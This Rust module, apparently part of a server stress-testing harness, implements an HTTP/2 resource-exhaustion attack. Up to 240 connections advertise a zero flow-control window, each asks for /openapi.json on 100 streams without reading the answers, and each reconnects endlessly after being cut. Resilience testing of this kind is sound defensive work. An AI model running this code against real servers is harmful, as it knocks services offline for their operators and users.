//! Connections of HTTP/2 that ask for the largest page on every stream and leave no room for any of it.

use std::io;

use tokio::net::TcpStream;
use tokio::time::sleep;

use super::{Attack, Field, REFUSED_PAUSE, Tally};

/// Connections at most: with a hundred streams each they ask for as much as a crowd does.
const CONNECTIONS_MAX: usize = 240;
const STREAMS: usize = 100;

pub(super) async fn run(field: &Field) {
    for _ in 0..field.scale.crowd.min(CONNECTIONS_MAX) {
        let field = field.clone();
        tokio::task::spawn_local(async move {
            loop {
                match field.sources.connect_abrupt(field.target(Attack::UnreadAnswers)).await {
                    Ok(stream) => {
                        Tally::add(&field.tally.opened, 1);
                        // However it ends, it begins again.
                        let _ = ask(stream, &field).await;
                        Tally::add(&field.tally.cut, 1);
                    }
                    Err(_) => Tally::add(&field.tally.refused, 1),
                }
                sleep(REFUSED_PAUSE).await;
            }
        });
    }
    std::future::pending().await
}

/// Asks on every stream, and stays until the server has had enough.
async fn ask(stream: TcpStream, field: &Field) -> io::Result<()> {
    let mut client = h2::client::Builder::new();
    client.initial_window_size(0);
    let (requests, connection) =
        client.handshake::<_, bytes::Bytes>(stream).await.map_err(io::Error::other)?;
    let driver = tokio::task::spawn_local(connection);
    let mut answers = Vec::new();
    for _ in 0..STREAMS {
        let mut requests = requests.clone().ready().await.map_err(io::Error::other)?;
        let request = http::Request::get(format!("http://{}/openapi.json", field.server)).body(());
        let sent = requests.send_request(request.map_err(io::Error::other)?, true);
        answers.push(sent.map_err(io::Error::other)?);
    }
    let _ = driver.await;
    drop(answers);
    Ok(())
}
